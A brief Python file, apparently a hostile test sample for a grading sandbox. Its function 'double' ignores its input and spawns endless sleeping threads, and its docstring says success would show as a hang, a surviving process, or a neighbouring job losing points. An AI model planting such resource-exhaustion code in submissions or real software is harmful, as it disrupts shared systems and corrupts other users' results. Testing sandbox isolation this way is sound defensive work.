"""Starts threads without an end.

Success would show as a hang, a survivor, or a neighbour that loses points.
"""

EARNS = 0

import threading
import time


def double(x):
    while True:
        threading.Thread(target=time.sleep, args=(1000,)).start()
